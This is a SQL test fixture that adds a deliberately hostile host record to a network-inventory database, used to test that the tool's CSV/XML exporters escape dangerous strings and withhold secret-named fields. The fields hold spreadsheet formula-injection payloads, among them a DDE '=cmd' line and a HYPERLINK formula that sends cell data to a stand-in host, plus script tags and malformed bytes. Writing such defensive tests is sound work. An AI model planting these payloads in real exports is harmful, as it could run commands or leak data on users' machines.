-- hostile.sql — added to tests/data/inventory/show-fixture.sql for
-- tests/cli/export.test: one more host in scan 2 whose every string is
-- something an exporter must not pass on as is.  Build with
--   sqlite3 DB < show-fixture.sql && sqlite3 DB < hostile.sql
--
-- 198.18.1.40 carries: spreadsheet formulas (=, +, -, @, tab) and plain
-- negative numbers; CSV metacharacters (comma, quote); XML metacharacters
-- ("<&>", "]]>"); a C0 control (\x01) and a byte that is not UTF-8 (\xff),
-- which the inventory reader turns into '?'; UTF-8 that is well formed in
-- structure but not valid (a surrogate, an overlong '/'), which the
-- exporters must replace; real non-ASCII text, which must survive; and
-- facts whose keys name secrets, which must never be exported.
-- Scan 4 failed before it saw anything: an export of it is empty but valid.

PRAGMA foreign_keys = ON;
BEGIN;

INSERT INTO scans (id, started_at, finished_at, status, targets, target_count, command, pid,
                   hosts_up, packets_sent, replies, unprivileged, note) VALUES
  (4, 1699995000, 1699995001, 'failed', '198.18.2.0/24', 256, 'netcensus scan 198.18.2.0/24',
   250, NULL, NULL, NULL, 1, 'interface went away <&>');

INSERT INTO hosts (id, mac, address, first_seen, last_seen, first_scan, last_scan) VALUES
  (4, '02:00:c6:12:01:28', '198.18.1.40', 1700000004, 1700000004, 2, 2);

INSERT INTO host_scans (scan_id, host_id, address, address_int, address_reason, mac, mac_source,
                        reasons, ttl, rtt_us, on_link, seen_at) VALUES
  (2, 4, '198.18.1.40', 3323068712, 'arp-response', '02:00:c6:12:01:28', 'arp-response',
   'arp-response,syn-ack', 128, 800, 1, 1700000004);

INSERT INTO ports (scan_id, host_id, proto, port, state, reason, ttl) VALUES
  (2, 4, 'tcp', 21, 'open', 'syn-ack', 128),
  (2, 4, 'tcp', 3389, 'open', 'syn-ack', 128);

INSERT INTO verdicts (scan_id, host_id, field, value, source, confidence) VALUES
  (2, 4, 'hostname', '=cmd|'' /C calc''!A0', 'smb', 90),
  (2, 4, 'domain', 'Café-Ünïcödé.例え', 'smb', 80),
  (2, 4, 'os.name', 'Windows <&> "10"', 'smb', 85),
  (2, 4, 'os.build', '-1', 'smb', 85);

INSERT INTO facts (scan_id, host_id, key, value, source, confidence) VALUES
  (2, 4, 'smb.netbios_name', '@SUM(1+1)', 'smb', 90),
  (2, 4, 'snmp.community', 'public-should-never-leak', 'snmp', 100),
  (2, 4, 'ssh.password', 'hunter2-should-never-leak', 'ssh', 100),
  (2, 4, 'api.Secret_Token', 'tok-should-never-leak', 'banner', 50),
  (2, 4, 'banner.raw', 'a' || char(1) || 'b ]]> c', 'banner', 10),
  (2, 4, 'banner.bytes', 'caf' || CAST(X'ff' AS TEXT) || ' bar', 'banner', 10),
  (2, 4, 'banner.surrogate', 'x' || CAST(X'eda080' AS TEXT) || 'y', 'banner', 10),
  (2, 4, 'banner.overlong', 'p' || CAST(X'c0af' AS TEXT) || 'q', 'banner', 10);

INSERT INTO services (scan_id, host_id, proto, port, name, product, version, info, banner,
                      source) VALUES
  (2, 4, 'tcp', 21, 'ftp', '+ProFTPD', '-1.3', 'title: <script>&amp;</script> ]]>',
   '220 ' || char(1) || 'evil' || CAST(X'ff' AS TEXT) || ' "ftp", ready', 'banner'),
  (2, 4, 'tcp', 3389, 'rdp', NULL, NULL, NULL, NULL, 'banner');

INSERT INTO software (scan_id, host_id, name, version, vendor, install_date, source, arch,
                      size_bytes) VALUES
  (2, 4, '=HYPERLINK("http://x.example/?"&A1,"click")', '1.0', 'Evil, "Corp"', '2024-01-02',
   'ssh', '=x64', 1024),
  (2, 4, '+1+1', '-1', '-2+3', NULL, 'ssh', NULL, NULL),
  (2, 4, '@SUM(A1:A9)', '+7', '@', NULL, 'ssh', NULL, NULL),
  (2, 4, char(9) || 'tabbed', '-0.5', NULL, NULL, 'ssh', NULL, NULL),
  (2, 4, 'Notepad++', '8.6', 'Don Ho', '20240101', 'ssh', 'x64', 4718592),
  (2, 4, 'Ünïcödé Tööl 日本語', '2.0', 'Ärger GmbH', NULL, 'ssh', 'x86', 0);

INSERT INTO hardware (scan_id, host_id, kind, name, vendor, model, serial, firmware, extra,
                      size_bytes, used_bytes, source) VALUES
  (2, 4, 'storage', 'C:\', NULL, NULL, NULL, NULL, 'type=fixed', 107374182400, 53687091200,
   'ssh'),
  (2, 4, 'memory', 'physical memory', NULL, NULL, NULL, NULL, NULL, 8589934592, NULL, 'ssh'),
  (2, 4, 'cpu', '-Intel "Core" <i7>', 'GenuineIntel', NULL, '=1+1', NULL, NULL, NULL, NULL,
   'ssh');

COMMIT;
